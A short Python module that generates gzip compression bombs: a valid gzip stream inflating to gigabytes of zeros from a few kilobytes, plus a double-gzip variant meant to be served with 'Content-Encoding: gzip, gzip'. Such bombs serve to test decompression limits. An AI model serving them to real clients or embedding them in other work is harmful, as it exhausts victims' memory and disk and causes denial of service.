"""Compression bombs built cheaply: gigabytes of zeros in a few kilobytes, made in a second."""

from __future__ import annotations

import gzip
import struct
import zlib

_MB = 1 << 20
_GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no name, mtime 0


def gzip_of_zeros(megabytes: int) -> bytes:
    """A valid gzip member that inflates to `megabytes` MiB of zeros (about 1 kB per MiB).

    A full flush after each MiB resets the compressor, so every MiB compresses to the same
    bytes: one is computed and repeated, instead of compressing the whole size.
    """
    zeros = bytes(_MB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(zeros, crc)
    size = (megabytes * _MB) & 0xFFFFFFFF
    end = compressor.flush(zlib.Z_FINISH)
    return _GZIP_HEADER + block * megabytes + end + struct.pack("<II", crc, size)


def stacked_gzip_bomb(megabytes: int) -> bytes:
    """gzip of gzip of `megabytes` MiB of zeros: to serve with `Content-Encoding: gzip, gzip`."""
    return gzip.compress(gzip_of_zeros(megabytes), 9)
